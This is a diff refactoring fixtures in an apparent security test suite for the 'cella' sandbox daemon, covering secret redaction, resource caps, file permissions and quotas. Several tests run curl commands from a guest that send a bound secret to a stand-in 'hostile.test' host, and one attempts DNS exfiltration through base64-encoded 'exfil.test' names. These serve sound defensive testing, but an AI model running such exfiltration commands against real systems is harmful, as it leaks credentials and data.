@@ -19,7 +19,7 @@ from pathlib import Path
 import pytest
 
 from cella import Client, Sandbox, errors
-from tests.daemon import Daemon, running_daemon
+from tests.daemon import Daemon, DaemonFactory, SandboxFactory
 from tests.netservers import (
     DnsRecorder,
     HostileHandler,
@@ -84,7 +84,9 @@ def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Net]:
 
 
 @pytest.fixture(scope="module")
-def attacked(tmp_path_factory: pytest.TempPathFactory, net: Net) -> Iterator[Daemon]:
+def daemon(
+    tmp_path_factory: pytest.TempPathFactory, net: Net, module_daemon_factory: DaemonFactory
+) -> Daemon:
     """A daemon whose resolver (its own mount namespace's /etc/resolv.conf) is the test's
     DNS recorder, so every lookup its proxy makes is seen."""
     base = tmp_path_factory.mktemp("attacked")
@@ -103,9 +105,9 @@ def attacked(tmp_path_factory: pytest.TempPathFactory, net: Net) -> Iterator[Dae
     (data / "left-by-an-older-version").write_text("x")  # made with the old umask
     (data / "left-by-an-older-version").chmod(0o644)
     hosts = {"hostile.test": net.hostile, "mirror.test": net.mirror, "web.test": net.web}
-    with running_daemon(
-        data,
-        wrap,
+    return module_daemon_factory(
+        data_dir=data,
+        wrap=wrap,
         pool_size="1",
         max_sandboxes_per_tenant="3",
         max_connections_per_sandbox=str(CONNECTION_CAP),
@@ -113,14 +115,7 @@ def attacked(tmp_path_factory: pytest.TempPathFactory, net: Net) -> Iterator[Dae
         console_max_kib=str(CONSOLE_KIB),
         egress_hosts=json.dumps(hosts),
         egress_upstream_ca=str(net.ca.cert),
-    ) as d:
-        yield d
-
-
-@pytest.fixture(scope="module")
-def client(attacked: Daemon) -> Iterator[Client]:
-    with Client(attacked.url, attacked.admin_key) as c:
-        yield c
+    )
 
 
 def sh(sb: Sandbox, command: str, timeout: float = 120) -> tuple[int, str]:
@@ -144,62 +139,60 @@ def peak_from_now(pid: int) -> int:
 # -- 1. secrets coming back -----------------------------------------------------------------
 
 
-def test_a_bound_secret_never_comes_back_in_any_form(client: Client, net: Net) -> None:
-    client.put_secret("tok", SECRET, ["hostile.test"], auth="basic")
-    sb = client.create(allow=["hostile.test", "mirror.test"], secrets={"TOK": "tok"})
-    try:
-        before = len(net.seen.requests)
-        results = {}
-        for scheme in ("http", "https"):
-            for path in ("reflect", "big", "chunked", "reason", "malformed", "gzip"):
-                url = f"{scheme}://hostile.test/{path}?t=$TOK"
-                _, out = sh(
-                    sb, f'curl -sS -i "{url}" -H "X-Echo: $TOK" -d "body=$TOK" | tail -c 4000'
-                )
-                results[f"{scheme} {path}"] = out
-        print(json.dumps({k: v[-300:] for k, v in results.items()}, indent=1))
-        # control: the server did get the value, in the header the proxy built (basic), the
-        # URL, a header and the body; and it sent all of it back
-        got = json.dumps(net.seen.requests[before:])
-        assert SECRET in got and forms(SECRET)[-2] in got  # raw, and base64 of user:value
-        for scheme in ("http", "https"):
-            for path in ("reflect", "big", "chunked"):  # the echo came through whole, redacted
-                out = results[f"{scheme} {path}"]
-                assert "cella-secret-" in out and out.rstrip().endswith("}"), (path, out[-200:])
-            assert results[f"{scheme} reason"].rstrip().endswith("ok"), results[f"{scheme} reason"]
-            assert "cannot be checked for secrets" in results[f"{scheme} gzip"]
-        for name, out in results.items():
-            assert not leaked(out), (name, leaked(out))
-    finally:
-        sb.delete()
+def test_a_bound_secret_never_comes_back_in_any_form(
+    admin: Client, net: Net, sandbox_factory: SandboxFactory
+) -> None:
+    admin.put_secret("tok", SECRET, ["hostile.test"], auth="basic")
+    sb = sandbox_factory(admin, allow=["hostile.test", "mirror.test"], secrets={"TOK": "tok"})
+    before = len(net.seen.requests)
+    results = {}
+    for scheme in ("http", "https"):
+        for path in ("reflect", "big", "chunked", "reason", "malformed", "gzip"):
+            url = f"{scheme}://hostile.test/{path}?t=$TOK"
+            _, out = sh(sb, f'curl -sS -i "{url}" -H "X-Echo: $TOK" -d "body=$TOK" | tail -c 4000')
+            results[f"{scheme} {path}"] = out
+    print(json.dumps({k: v[-300:] for k, v in results.items()}, indent=1))
+    # control: the server did get the value, in the header the proxy built (basic), the
+    # URL, a header and the body; and it sent all of it back
+    got = json.dumps(net.seen.requests[before:])
+    assert SECRET in got and forms(SECRET)[-2] in got  # raw, and base64 of user:value
+    for scheme in ("http", "https"):
+        for path in ("reflect", "big", "chunked"):  # the echo came through whole, redacted
+            out = results[f"{scheme} {path}"]
+            assert "cella-secret-" in out and out.rstrip().endswith("}"), (path, out[-200:])
+        assert results[f"{scheme} reason"].rstrip().endswith("ok"), results[f"{scheme} reason"]
+        assert "cannot be checked for secrets" in results[f"{scheme} gzip"]
+    for name, out in results.items():
+        assert not leaked(out), (name, leaked(out))
 
 
-def test_a_header_only_secret_cannot_be_stored_and_read_back(client: Client, net: Net) -> None:
-    client.put_secret("note", SECRET, ["hostile.test"], auth="bearer", inject="header")
-    client.put_secret("note-anywhere", SECRET + "-2", ["hostile.test"], auth="bearer")
-    sb = client.create(
-        allow=["hostile.test", "mirror.test"], secrets={"NOTE": "note", "NOTE2": "note-anywhere"}
+def test_a_header_only_secret_cannot_be_stored_and_read_back(
+    admin: Client, net: Net, sandbox_factory: SandboxFactory
+) -> None:
+    admin.put_secret("note", SECRET, ["hostile.test"], auth="bearer", inject="header")
+    admin.put_secret("note-anywhere", SECRET + "-2", ["hostile.test"], auth="bearer")
+    sb = sandbox_factory(
+        admin,
+        allow=["hostile.test", "mirror.test"],
+        secrets={"NOTE": "note", "NOTE2": "note-anywhere"},
     )
-    try:
-        before = len(net.seen.requests)
-        assert sh(sb, 'curl -sS http://hostile.test/store -d "note: $NOTE"')[0] == 0
-        assert sh(sb, 'curl -sS http://hostile.test/store -d "note: $NOTE2"')[0] == 0
-        # read back over TLS the proxy does not open (the host holds no secret of ours)
-        sb.files.write("/tmp/test-ca.pem", net.ca.cert.read_bytes())
-        _, back = sh(sb, "curl -sS --cacert /tmp/test-ca.pem https://mirror.test/notes")
-        # header-only: the server got the value only in the Authorization header, never
-        # in a body it could store; the guest reads back a placeholder
-        stored = net.seen.requests[before:]
-        assert stored[0]["headers"]["authorization"] == f"Bearer {SECRET}"
-        assert SECRET not in stored[0]["body"] and "cella-secret-" in stored[0]["body"]
-        # control: substituted anywhere, the value is stored, and comes back through the
-        # other host in clear (the documented risk of inject=anywhere on such hosts; over
-        # plain HTTP or TLS the proxy opens, it would have been taken out)
-        assert f"note: {SECRET}-2" in stored[1]["body"]
-        assert f"{SECRET}-2" in back
-        assert SECRET not in back.replace(f"{SECRET}-2", "")
-    finally:
-        sb.delete()
+    before = len(net.seen.requests)
+    assert sh(sb, 'curl -sS http://hostile.test/store -d "note: $NOTE"')[0] == 0
+    assert sh(sb, 'curl -sS http://hostile.test/store -d "note: $NOTE2"')[0] == 0
+    # read back over TLS the proxy does not open (the host holds no secret of ours)
+    sb.files.write("/tmp/test-ca.pem", net.ca.cert.read_bytes())
+    _, back = sh(sb, "curl -sS --cacert /tmp/test-ca.pem https://mirror.test/notes")
+    # header-only: the server got the value only in the Authorization header, never
+    # in a body it could store; the guest reads back a placeholder
+    stored = net.seen.requests[before:]
+    assert stored[0]["headers"]["authorization"] == f"Bearer {SECRET}"
+    assert SECRET not in stored[0]["body"] and "cella-secret-" in stored[0]["body"]
+    # control: substituted anywhere, the value is stored, and comes back through the
+    # other host in clear (the documented risk of inject=anywhere on such hosts; over
+    # plain HTTP or TLS the proxy opens, it would have been taken out)
+    assert f"note: {SECRET}-2" in stored[1]["body"]
+    assert f"{SECRET}-2" in back
+    assert SECRET not in back.replace(f"{SECRET}-2", "")
 
 
 # -- 2. one guest exhausting the host -----------------------------------------------------
@@ -226,42 +219,41 @@ def host_processes() -> int:
     return sum(1 for e in os.listdir("/proc") if e.isdigit())
 
 
-def test_held_connections_cost_no_host_process_and_are_capped(client: Client) -> None:
-    sb = client.create(allow=["web.test"])
-    try:
-        sb.files.write("/tmp/hold.py", HOLD)
-        baseline = host_processes()
-        stream = sb.exec_stream(["python3", "/tmp/hold.py", "200", "8"])
-        out = b""
-        during = baseline
-        for event in stream:
-            if event.type == "stdout":
-                out += event.bytes
-                during = host_processes()  # all 200 connections are open now
-        answered, refused = (int(x) for x in out.split())
-        print(f"answered {answered}, refused {refused}, host processes {baseline} -> {during}")
-        assert answered == CONNECTION_CAP and refused == 200 - CONNECTION_CAP
-        assert during - baseline < 10, (baseline, during)
-        hits = [e.data for e in sb.events(types=["limit_hit"])]
-        assert {"limit": "connections", "max": CONNECTION_CAP, "action": "refused"} in hits
-        assert sh(sb, "curl -sSf http://web.test/after")[0] == 0  # the cap frees up again
-    finally:
-        sb.delete()
+def test_held_connections_cost_no_host_process_and_are_capped(
+    admin: Client, sandbox_factory: SandboxFactory
+) -> None:
+    sb = sandbox_factory(admin, allow=["web.test"])
+    sb.files.write("/tmp/hold.py", HOLD)
+    baseline = host_processes()
+    stream = sb.exec_stream(["python3", "/tmp/hold.py", "200", "8"])
+    out = b""
+    during = baseline
+    for event in stream:
+        if event.type == "stdout":
+            out += event.bytes
+            during = host_processes()  # all 200 connections are open now
+    answered, refused = (int(x) for x in out.split())
+    print(f"answered {answered}, refused {refused}, host processes {baseline} -> {during}")
+    assert answered == CONNECTION_CAP and refused == 200 - CONNECTION_CAP
+    assert during - baseline < 10, (baseline, during)
+    hits = [e.data for e in sb.events(types=["limit_hit"])]
+    assert {"limit": "connections", "max": CONNECTION_CAP, "action": "refused"} in hits
+    assert sh(sb, "curl -sSf http://web.test/after")[0] == 0  # the cap frees up again
 
 
 # -- 3. the data directory ----------------------------------------------------------------
 
 
-def test_the_data_directory_is_owner_only(client: Client, attacked: Daemon) -> None:
-    sb = client.create()
+def test_the_data_directory_is_owner_only(admin: Client, daemon: Daemon) -> None:
+    sb = admin.create()
     snap = sb.snapshot("perm")
     try:
-        flat = attacked.data_dir / "snapshots" / snap.id
+        flat = daemon.data_dir / "snapshots" / snap.id
         deadline = time.monotonic() + 60  # its RAM layer is flattened in the background
         while (flat / "ram.layer").exists() or not (flat / "ram").exists():
             assert time.monotonic() < deadline, sorted(p.name for p in flat.iterdir())
             time.sleep(0.1)
-        entries = [attacked.data_dir, *attacked.data_dir.rglob("*")]
+        entries = [daemon.data_dir, *daemon.data_dir.rglob("*")]
         modes = {p: p.stat() for p in entries if not p.is_symlink()}
         open_to_others = [str(p) for p, st in modes.items() if st.st_mode & 0o007]
         assert not open_to_others, open_to_others[:10]
@@ -289,41 +281,38 @@ def with_errors_ignored(fn: object) -> None:
 # -- 4. the guest console -----------------------------------------------------------------
 
 
-def test_the_console_cannot_fill_the_host(client: Client, attacked: Daemon) -> None:
-    sb = client.create()
-    try:
-        code, out = sh(
-            sb,
-            "head -c 4M /dev/zero | tr '\\0' x > /dev/console; "
-            "echo console-end-marker > /dev/console",
-            timeout=300,
-        )
-        assert code == 0, out
-        # at most the cap in the log and half of it in the rotated one, of 4 MiB written
-        # (the daemon trims about once a second)
-        deadline = time.monotonic() + 30
-        while True:
-            logs = list((attacked.data_dir / "vms" / sb.id).glob("console.log*"))
-            sizes = {p.name: p.stat().st_size for p in logs}
-            if sum(sizes.values()) <= 2 * CONSOLE_KIB << 10:
-                break
-            assert time.monotonic() < deadline, sizes
-            time.sleep(0.1)
-        print(sizes)
-        # control: the console got the output (its end is kept)
-        text = b"".join(p.read_bytes() for p in logs)
-        assert b"console-end-marker" in text and b"x" * 1000 in text
-    finally:
-        sb.delete()
+def test_the_console_cannot_fill_the_host(
+    admin: Client, daemon: Daemon, sandbox_factory: SandboxFactory
+) -> None:
+    sb = sandbox_factory(admin)
+    code, out = sh(
+        sb,
+        "head -c 4M /dev/zero | tr '\\0' x > /dev/console; echo console-end-marker > /dev/console",
+        timeout=300,
+    )
+    assert code == 0, out
+    # at most the cap in the log and half of it in the rotated one, of 4 MiB written
+    # (the daemon trims about once a second)
+    deadline = time.monotonic() + 30
+    while True:
+        logs = list((daemon.data_dir / "vms" / sb.id).glob("console.log*"))
+        sizes = {p.name: p.stat().st_size for p in logs}
+        if sum(sizes.values()) <= 2 * CONSOLE_KIB << 10:
+            break
+        assert time.monotonic() < deadline, sizes
+        time.sleep(0.1)
+    print(sizes)
+    # control: the console got the output (its end is kept)
+    text = b"".join(p.read_bytes() for p in logs)
+    assert b"console-end-marker" in text and b"x" * 1000 in text
 
 
 # -- 5. quotas ------------------------------------------------------------------------------
 
 
-def test_resume_cannot_go_past_the_quota(attacked: Daemon) -> None:
-    with Client(attacked.url, attacked.admin_key) as admin:
-        key = admin.create_key("quota-tenant")["key"]
-    with Client(attacked.url, key) as tenant:
+def test_resume_cannot_go_past_the_quota(admin: Client, daemon: Daemon) -> None:
+    key = admin.create_key("quota-tenant")["key"]
+    with daemon.client(key) as tenant:
         a, b, c = (tenant.create() for _ in range(3))
         try:
             a.stop()
@@ -338,13 +327,9 @@ def test_resume_cannot_go_past_the_quota(attacked: Daemon) -> None:
                 with_errors_ignored(sb.delete)
 
 
-def test_stopped_sandboxes_count_against_a_disk_quota(tmp_path: Path) -> None:
-    with (
-        running_daemon(
-            tmp_path / "disk", pool_size="0", max_disk_mib_per_tenant=str(DISK_QUOTA_MIB)
-        ) as d,
-        Client(d.url, d.admin_key) as client,
-    ):
+def test_stopped_sandboxes_count_against_a_disk_quota(daemon_factory: DaemonFactory) -> None:
+    d = daemon_factory(pool_size="0", max_disk_mib_per_tenant=str(DISK_QUOTA_MIB))
+    with d.client() as client:
         first = client.create()
         second = client.create()  # control: under the quota, creates work
         second.delete()
@@ -360,54 +345,52 @@ def test_stopped_sandboxes_count_against_a_disk_quota(tmp_path: Path) -> None:
 # -- 6. output held by the daemon ------------------------------------------------------------
 
 
-def test_exec_output_is_bounded_in_the_daemon(client: Client, attacked: Daemon) -> None:
-    assert attacked.proc is not None
-    pid = attacked.proc.pid
-    sb = client.create()
-    try:
-        # the whole output (64 MiB) held at once would raise the daemon's peak by more than
-        # the bound; what it keeps (4 MiB) and the frames in flight stay well under it
-        before = peak_from_now(pid)
-        r = sb.exec("yes abcdefghij | head -c 64M", timeout=300)
-        grew = rss_kib(pid, "VmHWM") - before
-        print(f"buffered exec: kept {len(r.stdout)}, cut {r.stdout_truncated}; daemon +{grew} KiB")
-        assert len(r.stdout) == OUTPUT_CAP_MIB << 20
-        assert r.stdout_truncated == (64 - OUTPUT_CAP_MIB) << 20
-        assert grew < 32 << 10
-        # streamed: unbounded, but a slow reader slows the guest instead of filling the daemon
-        before, total = peak_from_now(pid), 0
-        for n, event in enumerate(sb.exec_stream("yes abcdefghij | head -c 64M", timeout=300)):
-            total += len(event.bytes)
-            if n < 40:
-                time.sleep(0.05)
-        peak = rss_kib(pid, "VmHWM") - before
-        print(f"streamed exec: {total} bytes; daemon peak +{peak} KiB while the reader lagged")
-        assert total == 64 << 20
-        assert peak < 48 << 10
-    finally:
-        sb.delete()
+def test_exec_output_is_bounded_in_the_daemon(
+    admin: Client, daemon: Daemon, sandbox_factory: SandboxFactory
+) -> None:
+    assert daemon.proc is not None
+    pid = daemon.proc.pid
+    sb = sandbox_factory(admin)
+    # the whole output (64 MiB) held at once would raise the daemon's peak by more than
+    # the bound; what it keeps (4 MiB) and the frames in flight stay well under it
+    before = peak_from_now(pid)
+    r = sb.exec("yes abcdefghij | head -c 64M", timeout=300)
+    grew = rss_kib(pid, "VmHWM") - before
+    print(f"buffered exec: kept {len(r.stdout)}, cut {r.stdout_truncated}; daemon +{grew} KiB")
+    assert len(r.stdout) == OUTPUT_CAP_MIB << 20
+    assert r.stdout_truncated == (64 - OUTPUT_CAP_MIB) << 20
+    assert grew < 32 << 10
+    # streamed: unbounded, but a slow reader slows the guest instead of filling the daemon
+    before, total = peak_from_now(pid), 0
+    for n, event in enumerate(sb.exec_stream("yes abcdefghij | head -c 64M", timeout=300)):
+        total += len(event.bytes)
+        if n < 40:
+            time.sleep(0.05)
+    peak = rss_kib(pid, "VmHWM") - before
+    print(f"streamed exec: {total} bytes; daemon peak +{peak} KiB while the reader lagged")
+    assert total == 64 << 20
+    assert peak < 48 << 10
 
 
 # -- 7. names the proxy looks up -------------------------------------------------------------
 
 
-def test_made_up_names_are_never_looked_up(client: Client, net: Net) -> None:
-    sb = client.create(allow=["0.0.0.0/0", "::/0", "lookup-control.test"])
-    try:
-        net.dns.names.clear()
-        for name in ("c2VjcmV0LWRhdGE.exfil.test", "more-data.exfil.test"):
-            _, out = sh(sb, f"curl -sS -m 10 http://{name}/ ; curl -sS -m 10 -x '' https://{name}/")
-            assert "denied" in out or "curl" in out
-        # control: a name a rule allows is looked up, through the same resolver
-        sh(sb, "curl -sS -m 10 http://lookup-control.test/")
-        deadline = time.monotonic() + 10
-        while not any(n.startswith("lookup-control.test") for n in net.dns.names):
-            assert time.monotonic() < deadline, net.dns.names
-            time.sleep(0.05)
-        print("looked up:", net.dns.names)
-        assert not [n for n in net.dns.names if "exfil" in n]
-    finally:
-        sb.delete()
+def test_made_up_names_are_never_looked_up(
+    admin: Client, net: Net, sandbox_factory: SandboxFactory
+) -> None:
+    sb = sandbox_factory(admin, allow=["0.0.0.0/0", "::/0", "lookup-control.test"])
+    net.dns.names.clear()
+    for name in ("c2VjcmV0LWRhdGE.exfil.test", "more-data.exfil.test"):
+        _, out = sh(sb, f"curl -sS -m 10 http://{name}/ ; curl -sS -m 10 -x '' https://{name}/")
+        assert "denied" in out or "curl" in out
+    # control: a name a rule allows is looked up, through the same resolver
+    sh(sb, "curl -sS -m 10 http://lookup-control.test/")
+    deadline = time.monotonic() + 10
+    while not any(n.startswith("lookup-control.test") for n in net.dns.names):
+        assert time.monotonic() < deadline, net.dns.names
+        time.sleep(0.05)
+    print("looked up:", net.dns.names)
+    assert not [n for n in net.dns.names if "exfil" in n]
 
 
 # -- 8. a guest that breaks the agent protocol -------------------------------------------------
@@ -425,27 +408,26 @@ print("sent")
 """
 
 
-def test_a_guest_breaking_the_protocol_gets_a_clear_state(client: Client) -> None:
-    sb = client.create()
-    try:
-        with pytest.raises(errors.InvalidArgument):  # 2 MiB of argument: refused up front
-            sb.exec(["echo", "x" * (2 << 20)])
-        sb.files.write("/tmp/garbage.py", GARBAGE)
-        with pytest.raises(errors.AgentUnavailable, match="broke the protocol"):
-            sb.exec(["python3", "/tmp/garbage.py"], timeout=60)
-            sb.exec(["true"])
-        with pytest.raises(errors.AgentUnavailable):
-            sb.exec(["true"])  # typed, not a 500
-        for _ in range(50):
-            info = sb.refresh().info
-            if info.error:
-                break
-            time.sleep(0.1)
-        assert info.state == "running" and "agent is unusable" in (info.error or "")
-        assert "agent_broken" in [e.type for e in sb.events()]
-        sb.stop()
-        sb.resume()
-        assert sh(sb, "echo back")[1] == "back\n"
-        assert sb.refresh().info.error is None
-    finally:
-        sb.delete()
+def test_a_guest_breaking_the_protocol_gets_a_clear_state(
+    admin: Client, sandbox_factory: SandboxFactory
+) -> None:
+    sb = sandbox_factory(admin)
+    with pytest.raises(errors.InvalidArgument):  # 2 MiB of argument: refused up front
+        sb.exec(["echo", "x" * (2 << 20)])
+    sb.files.write("/tmp/garbage.py", GARBAGE)
+    with pytest.raises(errors.AgentUnavailable, match="broke the protocol"):
+        sb.exec(["python3", "/tmp/garbage.py"], timeout=60)
+        sb.exec(["true"])
+    with pytest.raises(errors.AgentUnavailable):
+        sb.exec(["true"])  # typed, not a 500
+    for _ in range(50):
+        info = sb.refresh().info
+        if info.error:
+            break
+        time.sleep(0.1)
+    assert info.state == "running" and "agent is unusable" in (info.error or "")
+    assert "agent_broken" in [e.type for e in sb.events()]
+    sb.stop()
+    sb.resume()
+    assert sh(sb, "echo back")[1] == "back\n"
+    assert sb.refresh().info.error is None
